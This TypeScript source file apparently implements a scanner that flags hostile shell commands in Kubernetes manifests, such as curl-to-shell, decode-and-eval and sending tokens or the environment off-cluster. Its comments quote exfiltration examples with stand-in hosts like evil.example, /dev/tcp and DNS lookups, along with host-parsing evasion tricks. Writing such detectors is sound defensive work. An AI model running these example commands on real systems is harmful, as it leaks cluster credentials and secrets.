function fetches(s: Stage): boolean {
  return s.words.some((w) => DOWNLOADERS.has(w.slice(w.lastIndexOf('/') + 1)));
}

/**
 * `base64 -d`, `base64 --decode`, `openssl base64 -d`, `openssl enc -d`, `xxd -r`, `uudecode`, and
 * a decompressor's output (`gzip -dc`, `zcat`, `xz -d`): a script kept packed is one kept unread.
 */
function decodes(s: Stage): boolean {
  if (s.program === 'zcat' || s.program === 'gunzip' || s.program === 'bzcat' || s.program === 'xzcat' || s.program === 'unxz' || s.program === 'zstdcat') return true;
  if (s.program === 'gzip' || s.program === 'bzip2' || s.program === 'xz' || s.program === 'zstd' || s.program === 'lz4') return s.words.some((w) => w === '--decompress' || /^-[a-zA-Z]*d/.test(w));
  if (s.program === 'base64' || s.program === 'openssl' || s.program === 'base32' || s.program === 'basenc') return s.words.some((w) => w === '-D' || w === '--decode' || /^-[a-zA-Z]*d[a-zA-Z]*$/.test(w));
  if (s.program === 'xxd') return s.words.some((w) => /^-[a-zA-Z]*r/.test(w));
  // `rev`, and `tr` mapping one set onto another (`tr a-z n-za-m`, rot13): a text kept unreadable.
  if (s.program === 'rev') return true;
  if (s.program === 'tr') return s.words.slice(1).filter((w) => !w.startsWith('-')).length >= 2 && !s.words.some((w) => /^-[a-zA-Z]*d/.test(w));
  return s.program === 'uudecode';
}

function writesFile(s: Stage): boolean {
  if (redirectsToFile(s.text)) return true;
  if (s.program === 'wget') return !s.words.some((w, i) => w === '-O-' || w === '-qO-' || /^-[a-zA-Z]*O-$/.test(w) || (/^-[a-zA-Z]*O$/.test(w) && DISCARDED.test(s.words[i + 1] ?? '')) || /^-[a-zA-Z]*O\/dev\/null$/.test(w) || w === '--spider');
  // `-o /dev/null` (a status check) keeps nothing; `-o file`, `-O`, `--output file` do.
  return s.words.some((w, i) => FILE_FLAG.test(w) && !(/^(?:-[a-zA-Z]*o|--output)$/.test(w) && DISCARDED.test(s.words[i + 1] ?? '')) && !/^(?:--output=)\/dev\/null$/.test(w));
}

/** Where output goes when nothing keeps it: `/dev/null`, or a stream (`-`). */
const DISCARDED = /^(?:\/dev\/(?:null|stdout|stderr)|-)$/;

/**
 * A redirection that writes a file: `> f`, `>> f`, `2> f`, `&> f`, `| tee f` is the unpacker case.
 * Not one into `/dev/null`, a standard stream or a descriptor (`2>/dev/null`, `>&2`, `2>&1`).
 */
function redirectsToFile(text: string): boolean {
  if (!text.includes('>')) return false;
  for (const m of text.matchAll(/[0-9&]?>>?\|?\s*([^\s;|&)]*)/g)) {
    const target = m[1]!.replace(/["']/g, '');
    if (target.startsWith('&')) continue;
    if (target === '' && text[m.index + m[0].length] === '&') continue;
    if (/^\/dev\/(?:null|stdout|stderr|fd\/[0-9])$/.test(target)) continue;
    return true;
  }
  return false;
}

/**
 * An interpreter that runs what it is piped (`sh`, `sh -s -- …`, `python3 -`), not one given its
 * own code that reads the pipe as data (`python3 -c 'import json,sys; …'`, `node -e …`, `jq`).
 */
function runsInput(s: Stage): boolean {
  // xargs hands what it is piped to the interpreter as its words: its code (`xargs -0 sh -c`) or the file it runs.
  if (s.via === 'xargs' && INTERPRETERS.has(s.program)) return true;
  // awk that runs its input lines (`awk '{system($0)}'`, `awk '{print | "sh"}'`).
  if (AWKS.has(s.program)) return /\bsystem\s*\(|\|\s*"[^"]*\b(?:sh|bash)\b/.test(s.text);
  return INTERPRETERS.has(s.program) && !s.words.slice(1).some((w) => /^-[a-zA-Z]*[ceEm]$|^--eval$|^--command$/.test(w) || (s.program === 'php' && w === '-r'));
}

/**
 * A stage that sends what it is given to the network. `inline`: the credential is in the stage's
 * own words, so a downloader sends it without a body flag (in its URL or a header). `env` undefined: no destination may count as in the cluster (see
 * scriptShape).
 */
function isSender(s: Stage, env: ReadonlyMap<string, string> | undefined, inline: boolean): boolean {
  if (s.text.includes('/dev/tcp/') || s.text.includes('/dev/udp/')) return true;
  if (s.words.some((w) => SENDERS.has(w.slice(w.lastIndexOf('/') + 1)))) return true;
  // ssh and scp carry what they are given to another host; rsync when one of its operands is remote.
  if (REMOTE_COPIERS.has(s.program) || (s.program === 'rsync' && s.words.some((w) => /^[\w.-]+@|::|^rsync:\/\/|^[\w.-]+:/.test(w)))) return true;
  // curl's protocols that send its standard input as they connect (`curl telnet://h:p < …/token`).
  if (fetches(s) && s.words.some((w) => /^(?:telnet|smtps?|mqtt|gopher|dict):\/\//i.test(w))) return true;
  // `openssl s_client -connect h:p` relays its stdin to the peer, as nc does.
  if (s.program === 'openssl' && s.words.includes('s_client')) return true;
  // A name lookup sends the names it is given, in its words or piped (`… | xargs -I{} nslookup {}.x.example`;
  // nslookup reads names from stdin).
  if (RESOLVERS.has(s.program) || (s.program === 'xargs' && s.words.some((w) => RESOLVERS.has(w)))) return true;
  // git's network commands with a credential in their words (`git push https://x:$(cat …/token)@h/r`).
  if (s.program === 'git' && s.words.some((w) => GIT_NETWORK.has(w))) return inline && !(env !== undefined && onlyInCluster(s, env));
  return fetches(s) && (inline || s.words.some((w) => SEND_FLAG.test(w))) && !(env !== undefined && onlyInCluster(s, env));
}

/** git's subcommands that talk to a remote. */
const GIT_NETWORK: ReadonlySet<string> = new Set(['push', 'fetch', 'pull', 'clone', 'ls-remote', 'send-email', 'archive']);

/**
 * An interpreter given code of its own that reads a credential file or the whole environment and
 * opens the network (`python3 -c "import urllib.request; urlopen('https://…', open('…/token').read())"`):
 * the same send in the language's own client. Its URLs are read as a downloader's are (the Vault
 * login or the API server in the cluster asks nothing); a socket with no URL is foreign.
 */
function sendsInCode(script: string, env: ReadonlyMap<string, string> | undefined): boolean {
  // The code is read from the first interpreter given code to the end of the script: its `;` and
  // line breaks are the code's, not the shell's, and a script has no need to be split to be read.
  const at = codeStart(script);
  if (at < 0) return false;
  const code = script.slice(at);
  if (!NETWORK_CODE.test(code) || !(CREDENTIAL_PATH.test(code) || CREDENTIAL_PATH.test(joinedStrings(code)) || ENV_CODE.test(code) || envImported(code))) return false;
  if (env === undefined) return true;
  const urls = [...code.matchAll(/[a-z][a-z0-9+.-]*:\/\/[^\s"'`,;)]+/gi)].map((m) => m[0]);
  if (urls.length === 0) return true;
  // A URL literal that ends inside its host and is joined to more text
  // (`'https://kubernetes.default.svc' + '.evil.example/'`, Python's `'…' '…'`) has a host the
  // literal does not end; one joined after its path starts (`'https://…svc/api/…/' + name`), or
  // to a literal that starts one, keeps its host.
  if (/[a-z][a-z0-9+.-]*:\/\/[^\s"'`/?#,;)]+["'`]\s*(?:[+.%]\s*(?!["'`]\/)|["'`](?!\/))/i.test(code)) return true;
  // The language's other clients take a host, not a URL (`HTTPSConnection('evil.example')`, a
  // socket's `('203.0.113.5', 443)`): every string literal that is an address is read as one.
  const literals = [...code.matchAll(/(["'])([^"'\s\\]+)\1/g)].map((m) => m[2]!).filter((l) => !l.includes('://'));
  return !onlyInCluster({ program: '', words: [...urls, ...literals], text: code }, env);
}

/**
 * Code with its string literals joined where the language joins them: `"…/service" + "account/token"`
 * (Python, JavaScript, Ruby, PowerShell), `"a" . "b"` (Perl, PHP), `"a" "b"` (Python, C): the path
 * a credential is read from, written in pieces. Only for the credential's path: one pass.
 */
function joinedStrings(code: string): string {
  return code.replace(/(["'])\s*[+.]?\s*(["'])/g, (all, a: string, b: string) => (a === b ? '' : all));
}

/**
 * An interpreter given code that fetches code and evaluates it (`perl -e 'eval get("https://…")'`,
 * `node -e 'fetch(u).then(r=>r.text()).then(eval)'`, `python3 -c "exec(urlopen(u).read())"`):
 * `curl … | sh` in the language's own words.
 */
function runsFetchedCode(script: string): boolean {
  const at = codeStart(script);
  if (at < 0) return false;
  const code = script.slice(at);
  return (NETWORK_CODE.test(code) || FETCH_CALL.test(code)) && EVAL_CODE.test(code);
}

/**
 * A fetch by a bare function (LWP::Simple's `get(…)`, PHP's `file_get_contents("https://…")`),
 * besides the clients NETWORK_CODE names. Not a method called `get` (`cfg.get("key")` is a map
 * lookup in Python, Ruby and JavaScript: a Python program of any size has one, and an `exec` too;
 * JupyterHub's configuration, mounted from a ConfigMap, does), except axios's.
 */
const FETCH_CALL = /(?<![.\w$])get\s*\(|\baxios\.get\s*\(|\bLWP::Simple\b|\bfile_get_contents\s*\(\s*["']https?:/;

/** An interpreter given code that decodes code and evaluates it (`exec(base64.b64decode("…"))`, `eval(atob(…))`). */
function runsDecodedCode(script: string): boolean {
  const at = codeStart(script);
  return at >= 0 && DECODE_CODE.test(script.slice(at)) && EVAL_CODE.test(script.slice(at));
}

const DECODE_CODE = /\bb64decode\b|\bb32decode\b|\bunhexlify\b|\bfromhex\b|\bzlib\.decompress\b|\bcodecs\.decode\b|\batob\s*\(|Buffer\.from\([^)]*['"](?:base64|hex)['"]|\bdecode_base64\b|\bunpack\s*\(?\s*['"]m|\bBase64\.decode|\bFromBase64String\b|\bbase64_decode\b|\bgzinflate\b/;

/** Code that runs text as code: `eval`, `exec(`, `Function(`, `vm.runIn…`, `instance_eval`. */
const EVAL_CODE = /\beval\b|\bexec\s*\(|\bnew\s+Function\b|\bFunction\s*\(|\bvm\.runIn|\binstance_eval\b|\bInvoke-Expression\b|\biex\b/;

/** Where the first interpreter given code on its command line (`python3 -u -c …`, `node -e …`) starts, or -1. */
export function codeStart(script: string): number {
  for (const m of script.matchAll(/(?:^|[\s;&|(`"'/])(?:python[0-9.]*|node(?:js)?|perl|ruby|php|pwsh|powershell)(?=\s)/g)) {
    const next = script.slice(m.index + m[0].length, m.index + m[0].length + 80).trim().split(/\s+/, 4);
    if (next.some((w) => /^-[a-zA-Z]*[ceE]$|^--eval$|^-(?:-)?[Cc]ommand$/.test(w) || (m[0].endsWith('php') && w === '-r'))) return m.index;
  }
  return -1;
}

/** A downloader told where to connect besides its URL: a proxy, `--resolve`, `--connect-to`, a config file. */
export const REDIRECTING_FLAG = /^(?:-[a-zA-Z]*[xK]|--(?:pre)?proxy(?:-[a-z]+)?|--socks[0-9a-z-]*|--resolve|--connect-to|--config|--dns-servers|--doh-url|-e|--execute|--unix-socket|--abstract-unix-socket)(?:$|=)/;
const REDIRECTING_SCRIPT = /curlrc|wgetrc|CURL_HOME|WGETRC|_proxy\s*=|\/etc\/hosts|resolv\.conf/i;
const REDIRECTING_ENV = /_proxy$|^CURL_HOME$|^WGETRC$|^HOSTALIASES$|^RES_OPTIONS$|^LOCALDOMAIN$/i;

/**
 * A downloader whose every destination is inside the cluster: the API server (`kubernetes.default…`,
 * `$KUBERNETES_SERVICE_HOST`, which the kubelet sets) or a Service's name (`vault.vault.svc:8200`,
 * `….svc.cluster.local`). That is not "the network" a pod hands its
 * token or Secrets out to: it is how a pod logs in to Vault (`/v1/auth/kubernetes/login`), reviews
 * a token, or writes to the API with its own account. Read from the addresses, not from the text:
 * `kubernetes.default` in a query string of an outside address is still the outside address. A
 * `$VAR` address is the container's literal env value; one set elsewhere (a Secret, the image) is
 * unknown, and unknown is foreign; an address with no scheme is read as curl reads it (its host),
 * and a stage with no address at all is foreign.
 */
function onlyInCluster(s: Stage, env: ReadonlyMap<string, string>): boolean {
  if (s.words.some((w) => REDIRECTING_FLAG.test(w))) return false;
  let seen = false;
  for (const [i, raw] of s.words.entries()) {
    const w = raw.replace(/\)+$/, '');
    const host = destinationHost(w, env) ?? (unreadAddress(w, s.words[i - 1]) ? UNREAD_HOST : undefined);
    if (host === undefined) continue;
    if (!IN_CLUSTER_HOST.test(host)) return false;
    seen = true;
  }
  return seen;
}

/** What an address nothing here reads is taken to be: a host no in-cluster name matches. */
const UNREAD_HOST = '?';

/**
 * A word curl (or wget) takes as a URL though no dotted-name reading sees its host: curl guesses
 * `http://` for every word that is not an option or its argument and parses what follows the URL
 * way, so `kubernetes.default.svc@evil.example` is evil.example (userinfo), `3405803781` and
 * `0xcb007105` are IPv4 addresses, `[2001:db8::1]` an IPv6 one, `{a,b}` and `[1-9]` globs that
 * expand to other hosts, `https:evil.example` a URL without its slashes, and a `\` or `_` in a
 * host is not a Service's name. A number is an address only where it is not an option's argument
 * (`--max-filesize 10000000`). Read as an unknown host, so the stage is not only in the cluster.
 */
function unreadAddress(w: string, before: string | undefined): boolean {
  // Options, files, `@file` bodies, variables and quoted JSON or header text are not URLs.
  if (w === '' || /^[-@/.$]|[\s"']/.test(w)) return false;
  // One number is an IPv4 address (curl reads decimal, `0x` hex and `0` octal); below 2^24 it is in
  // 0.0.0.0/8, which no one routes, and a shorter number is a JSON value's or an option's.
  if (/^(?:0x[0-9a-f]+|[0-9]+)$/i.test(w)) return /^(?:0x0*[1-9a-f][0-9a-f]{6,}|0*[1-9][0-9]{7,})$/i.test(w) && !(before ?? '').startsWith('-');
  // A stage's words are split at blanks, so a header's `Authorization:` or a JSON fragment is one:
  // only a dotted name, an IPv6 literal or a scheme before a dotted name is a host here.
  return (w.includes('.') && /[@{}[\]\\_?#]/.test(w)) || /\[[0-9a-f:.]*:[0-9a-f:.]*\]/i.test(w) || /^[a-z][a-z0-9+.-]*:(?!\/\/|[0-9]+(?:[/?#]|$))\S*\./i.test(w);
}

/**
 * `kubernetes`, `kubernetes.default(.svc(.cluster.local))`, `<svc>.<ns>.svc(.cluster.local)`. Not
 * loopback: a sidecar of the same manifest listening there (`socat tcp-listen:9000 tcp:…`) relays
 * what it is sent, and no routine command sends a credential to its own pod.
 */
export const IN_CLUSTER_HOST = /^(?:kubernetes(?:\.default)?|[a-z0-9-]+(?:\.[a-z0-9-]+)*\.svc(?:\.cluster\.local\.?)?|\$\{?KUBERNETES_SERVICE_HOST\}?)$/i;

/**
 * The host a downloader's word sends to, or undefined when the word is not an address: a URL
 * (`https://h:p/…`), a `$VAR`-led address (`$VAULT_ADDR/v1/…`, resolved through `env`), or a bare
 * `host:port/…` / dotted name or IP a downloader takes as a URL. File paths, flags, `@file` bodies
 * and JSON fragments are not addresses.
 */
export function destinationHost(word: string, env: ReadonlyMap<string, string>): string | undefined {
  let w = word;
  const v = /^\$(?:\{([A-Za-z_][A-Za-z0-9_]*)\}|\(([A-Za-z_][A-Za-z0-9_]*)\)|([A-Za-z_][A-Za-z0-9_]*))(.*)$/.exec(w);
  if (v !== null) {
    const name = (v[1] ?? v[2] ?? v[3])!;
    if (name === 'KUBERNETES_SERVICE_HOST' && !env.has(name)) return '$KUBERNETES_SERVICE_HOST';
    const rest = v[4]!;
    // `$TOKEN` alone, a body or a header value, is not an address; `$VAULT_ADDR/v1/…` and `$X:8200` are.
    if (rest === '' ? !/(?:ADDR|URL|URI|HOST|ENDPOINT|SERVER)$/i.test(name) : !/^[/:]/.test(rest)) return undefined;
    const value = env.get(name);
    if (value === undefined) return `$${name}`;
    w = value + rest;
  }
  const url = /^[a-z][a-z0-9+.-]*:\/\/(?:[^@/?#]*@)?(\[[^\]]*\]|[^/:?#]*)/i.exec(w);
  if (url !== null) {
    // A `\` before the host: curl takes what follows its `@` as the host, a WHATWG parser (Node's
    // URL, a browser's) the `\` as a `/`, which ends the host before it.
    if (url[0].includes('\\')) return UNREAD_HOST;
    // `https://$KUBERNETES_SERVICE_HOST:…`: the kubelet's value unless the manifest sets its own.
    const inner = /^\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?$/.exec(url[1]!);
    if (inner === null) return url[1];
    const value = env.get(inner[1]!);
    if (value !== undefined) return /^(\[[^\]]*\]|[^/:?#]*)/.exec(value)![1];
    return inner[1] === 'KUBERNETES_SERVICE_HOST' ? '$KUBERNETES_SERVICE_HOST' : `$${inner[1]!}`;
  }
  if (w.startsWith('-') || w.startsWith('@') || w.startsWith('/') || w.startsWith('.')) return undefined;
  const bare = /^((?:[A-Za-z0-9-]+\.)+[A-Za-z0-9-]+|localhost)(?::[0-9]+)?(?:\/|$)/.exec(w);
  return bare === null ? undefined : bare[1];
}

/** A stage whose output is the environment or a credential: `env`, `printenv`, `cat …/token`. */
function isSource(s: Stage): boolean {
  if (CREDENTIAL_PATH.test(s.text) || EXEC_ENV.test(s.text)) return true;
  // Its arguments end at a redirection: `env > /dev/tcp/…` is `env` written to a socket.
  const end = s.words.findIndex((w, i) => i > 0 && /^[0-9&]?[<>]/.test(w));
  const args = s.words.slice(1, end < 0 ? undefined : end);
  if (s.program === 'env' || s.program === 'printenv' || s.program === 'set') return args.every((w) => w.startsWith('-') || s.program === 'printenv');
  return s.program === 'export' && args.every((w) => w === '-p');
}
